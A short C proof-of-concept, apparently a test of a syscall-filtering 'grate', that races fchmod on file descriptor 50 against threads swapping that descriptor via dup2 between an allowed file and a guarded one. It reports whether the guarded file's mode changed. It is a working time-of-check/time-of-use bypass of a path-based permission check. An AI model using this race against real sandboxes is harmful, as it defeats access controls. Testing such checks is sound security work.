/* fd_swap ROUNDS SWAPPERS: one thread changes the mode of the file at fd 50 (/tmp/f1,
 * outside the directory a grate guards) with fchmod, ROUNDS times; SWAPPERS others keep
 * making fd 50 /data/f1 (opened for reading, which the grate allows) and back with
 * dup2. A grate that checked the path fd 50 was opened as, then let the call go down
 * with fd 50, could pass /tmp/f1 while the microvisor changed /data/f1.
 * Prints "tries N won W" (W: /data/f1's mode changed). */
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>
static int fd_data, fd_tmp;
static volatile int stop;
static void *swap(void *a) { while (!stop) { dup2(fd_data, 50); dup2(fd_tmp, 50); } return a; }
int main(int argc, char **argv) {
  long rounds = atol(argv[1]);
  fd_data = open("/data/f1", O_RDONLY);
  close(open("/tmp/f1", O_CREAT | O_WRONLY, 0644));
  fd_tmp = open("/tmp/f1", O_RDONLY);
  if (fd_data < 0 || fd_tmp < 0) { perror("open"); return 1; }
  dup2(fd_tmp, 50);
  struct stat before; fstat(fd_data, &before);
  int swappers = atoi(argv[2]);
  pthread_t t[8];
  for (int k = 0; k < swappers && k < 8; k++) pthread_create(&t[k], 0, swap, 0);
  long i = 0; int won = 0;
  for (; i < rounds && !won; i++) {
    fchmod(50, 0600);
    if (i % 64 == 0) { struct stat now; fstat(fd_data, &now); won = now.st_mode != before.st_mode; }
  }
  stop = 1;
  for (int k = 0; k < swappers && k < 8; k++) pthread_join(t[k], 0);
  printf("tries %ld won %d\n", i, won);
  return 0;
}
